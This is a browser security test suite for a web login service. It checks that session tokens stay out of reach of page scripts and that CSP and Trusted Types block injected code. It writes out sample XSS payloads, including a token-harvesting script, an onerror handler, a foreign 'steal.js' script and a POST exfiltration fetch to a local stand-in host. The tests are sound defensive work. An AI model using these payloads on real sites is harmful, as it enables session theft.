// Sign up and log in through the pages in Chromium; then prove that nothing a page script can
// reach holds a token: document.cookie, the Cookie Store API, localStorage, sessionStorage,
// and every response body the pages received. A script injected with page.evaluate stands
// in for an XSS payload running with the page's full privileges.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';

import {
  JWT_SHAPE, ACCESS_COOKIE, REFRESH_COOKIE, launchBrowser, loginThroughPage, newPassword,
  recordingContext, signupThroughPage, startWrit, tokenCookies, uniqueName,
} from './browser.mjs';

let server;
let browser;
before(async () => {
  server = await startWrit();
  browser = await launchBrowser();
});
after(async () => {
  await browser?.close();
  await server?.dispose();
});

// What an injected script can read or fetch from inside the page.
function injectedScript() {
  return async () => {
    const loot = {
      cookie: document.cookie,
      localStorage: JSON.stringify({ ...localStorage }),
      sessionStorage: JSON.stringify({ ...sessionStorage }),
      cookieStore: [],
      fetched: [],
    };
    if (globalThis.cookieStore) {
      loot.cookieStore = (await cookieStore.getAll()).map((cookie) => `${cookie.name}=${cookie.value}`);
    }
    // The JSON API answers the page; none of its bodies may hold a token.
    for (const path of ['/auth/session', '/auth/sessions']) {
      const response = await fetch(path, { credentials: 'same-origin' });
      loot.fetched.push(await response.text());
    }
    const refreshed = await fetch('/auth/refresh', { method: 'POST', credentials: 'same-origin' });
    loot.fetched.push(await refreshed.text());
    const client = await import('/assets/writ-client.js');
    loot.clientExports = Object.keys(client);
    loot.session = JSON.stringify(await client.session());
    return loot;
  };
}

test('signup and login through the pages; no token is within reach of page scripts', async () => {
  const context = await recordingContext(browser);
  const page = await context.newPage();
  const username = uniqueName('xss');
  const password = newPassword();
  await signupThroughPage(page, server, username, password);
  assert.equal(await page.textContent('#username'), username);

  // The browser holds both tokens, HttpOnly and Secure, __Host-/__Secure- prefixed.
  const cookies = await tokenCookies(context);
  assert.deepEqual(cookies.map((cookie) => cookie.name).sort(), [ACCESS_COOKIE, REFRESH_COOKIE].sort());
  for (const cookie of cookies) {
    assert.equal(cookie.httpOnly, true, cookie.name);
    assert.equal(cookie.secure, true, cookie.name);
  }
  assert.match(cookies.find((c) => c.name === ACCESS_COOKIE).value, JWT_SHAPE);

  const loot = await page.evaluate(injectedScript());
  const tokens = (await tokenCookies(context)).map((cookie) => cookie.value);
  const everything = JSON.stringify(loot);
  for (const token of [...tokens, ...cookies.map((cookie) => cookie.value)]) {
    assert.ok(!everything.includes(token), `an injected script read a token: ${everything}`);
  }
  assert.doesNotMatch(everything, JWT_SHAPE, everything);
  assert.equal(loot.cookie, '');
  assert.deepEqual(loot.cookieStore, []);
  assert.equal(loot.localStorage, '{}');
  assert.equal(loot.sessionStorage, '{}');
  assert.ok(!loot.clientExports.some((name) => /token/i.test(name)), `${loot.clientExports}`);
  assert.match(loot.session, new RegExp(username));

  // Log out and in again (with remember-me) through the login page; still nothing.
  await page.click('#logout');
  await page.waitForURL(/\/login/);
  await loginThroughPage(page, server, username, password, { remember: true });
  const again = JSON.stringify(await page.evaluate(injectedScript()));
  for (const cookie of await tokenCookies(context)) {
    assert.ok(!again.includes(cookie.value), 'an injected script read a token after login');
  }
  assert.equal(await page.evaluate(() => localStorage.length + sessionStorage.length), 0);

  // Every body any page of the context received: no token, nothing JWT-shaped.
  const allTokens = new Set([...tokens, ...(await tokenCookies(context)).map((cookie) => cookie.value)]);
  assert.ok(context.bodies.length > 10, `only ${context.bodies.length} responses recorded`);
  for (const { where, body } of context.bodies) {
    assert.doesNotMatch(body, JWT_SHAPE, `JWT-shaped text in ${where}`);
    for (const token of allTokens) {
      assert.ok(!body.includes(token), `a token in the body of ${where}`);
    }
  }
  assert.deepEqual(context.problems, [], 'CSP violations or script errors');
  await context.close();
});

test('injected markup or scripts do not run under the page policy', async () => {
  const context = await recordingContext(browser);
  const page = await context.newPage();
  const violations = [];
  page.on('console', (message) => violations.push(message.text()));
  await page.goto(`${server.origin}/login`);
  // An XSS that gets to insert markup or script elements: Trusted Types refuse the string
  // sinks, and CSP refuses inline code, scripts and fetches to other origins.
  const result = await page.evaluate(async () => {
    globalThis.ran = [];
    const attempt = async (name, run) => {
      try {
        await run();
        return `${name}: no exception`;
      } catch (error) {
        return `${name}: ${error.name}`;
      }
    };
    const outcomes = [];
    outcomes.push(await attempt('inline script', () => {
      const inline = document.createElement('script');
      inline.textContent = 'globalThis.ran.push("inline")';
      document.body.append(inline);
    }));
    outcomes.push(await attempt('foreign script', () => {
      const foreign = document.createElement('script');
      foreign.src = 'http://127.0.0.1:9/steal.js';
      document.body.append(foreign);
    }));
    outcomes.push(await attempt('html sink', () => {
      document.body.insertAdjacentHTML('beforeend', '<img src="/x" onerror="globalThis.ran.push(\'onerror\')">');
    }));
    outcomes.push(await attempt('event handler attribute', () => {
      const img = document.createElement('img');
      img.setAttribute('onerror', 'globalThis.ran.push("attribute")');
      img.src = '/nowhere.png';
      document.body.append(img);
    }));
    outcomes.push(await attempt('exfiltration', () => fetch('http://127.0.0.1:9/collect', { method: 'POST', body: 'x', mode: 'no-cors' })));
    await new Promise((resolve) => setTimeout(resolve, 500));
    return { ran: globalThis.ran, outcomes };
  });
  assert.deepEqual(result.ran, [], `injected code ran: ${JSON.stringify(result)}`);
  assert.ok(result.outcomes.includes('exfiltration: TypeError'), `connect-src: ${result.outcomes}`);
  assert.ok(violations.some((text) => /Content Security Policy|Trusted Type/i.test(text)), violations.join('\n'));
  await context.close();
});
